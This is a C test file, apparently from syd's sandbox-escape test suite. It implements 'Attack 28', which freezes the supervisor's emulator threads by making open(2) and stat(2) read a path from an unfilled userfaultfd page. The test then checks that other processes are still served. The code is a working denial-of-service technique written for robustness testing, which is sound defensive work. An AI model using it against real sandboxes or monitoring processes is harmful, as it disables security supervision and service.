/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Attack 28: freeze the supervisor. The path argument of an open(2) or
 * stat(2) lies in a page registered with userfaultfd(2) and never filled:
 * whoever reads it waits for ever, the kernel's copy natively (only that
 * call blocks), syd's process_vm_readv(2) of it under syd. Three such
 * calls, more than this machine's core emulator threads; then another
 * process's plain opens must still be served (esc_dos() in esc.h).
 * Trapping the kernel's own reads takes a userfaultfd without
 * UFFD_USER_MODE_ONLY: root, or vm.unprivileged_userfaultfd=1.
 */
#include <linux/userfaultfd.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "esc.h"

#define STALLS 3

static void stall(const struct esc *e, int i, int fd)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	long page = sysconf(_SC_PAGESIZE);
	struct stat st;
	char *path;
	int uffd;

	(void)e;
	uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	if (uffd < 0)
		esc_stall_fail(fd, 'u',
			       "userfaultfd(2) that traps the kernel's reads: "
			       "%s (unprivileged ones trap user-mode faults "
			       "only unless vm.unprivileged_userfaultfd=1)",
			       esc_errname(errno));
	if (ioctl(uffd, UFFDIO_API, &api) < 0)
		esc_stall_fail(fd, 's', "UFFDIO_API: %s", esc_errname(errno));
	path = mmap(NULL, (size_t)page, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (path == MAP_FAILED)
		esc_stall_fail(fd, 's', "mmap: %s", esc_errname(errno));
	reg.range.start = (uintptr_t)path;
	reg.range.len = (uint64_t)page;
	if (ioctl(uffd, UFFDIO_REGISTER, &reg) < 0)
		esc_stall_fail(fd, 's', "UFFDIO_REGISTER: %s",
			       esc_errname(errno));
	(void)!write(fd, "g", 1);
	/* Nobody reads uffd: the page stays missing. */
	if (i % 2)
		stat(path, &st);
	else
		open(path, O_RDONLY | O_CLOEXEC);
	(void)!write(fd, "r", 1);
	_exit(0);
}

int main(int argc, char **argv)
{
	struct esc e;

	esc_init(&e, argc, argv);
	esc_dos(&e, STALLS, stall, "opens and stats of a userfaultfd page");
}
